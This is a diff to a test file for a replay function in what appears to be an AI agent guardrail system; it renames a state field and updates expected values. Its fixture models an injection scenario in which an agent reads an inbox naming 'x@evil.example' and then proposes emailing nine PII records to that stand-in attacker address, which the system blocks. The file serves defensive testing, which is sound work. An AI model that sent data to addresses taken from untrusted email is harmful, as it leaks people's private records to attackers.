@@ -67,8 +67,8 @@ describe('replay', () => {
       { proposal: proposal('read_inbox', {}, T0), result: result('read_inbox', T0 + 100, { destinationsSeen: ['x@evil.example'], untrustedSources: ['email:inbox'] }) },
       { proposal: email('x@evil.example', T0 + 1000), result: result('send_email', T0 + 1100, { recordsRead: { pii: 9 } }) },
     ];
-    expect(replay(bundle(), steps).state.records).toEqual([]);
-    expect(replay(bundle(), steps, { applyBlockedResults: true }).state.records).toEqual([9]);
+    expect(replay(bundle(), steps).state.reads).toEqual([]);
+    expect(replay(bundle(), steps, { applyBlockedResults: true }).state.reads).toEqual([9, 0]);
   });
 
   it('given an escalated call, when the approver approves or not, then executed follows and outside-intent calls are counted', () => {
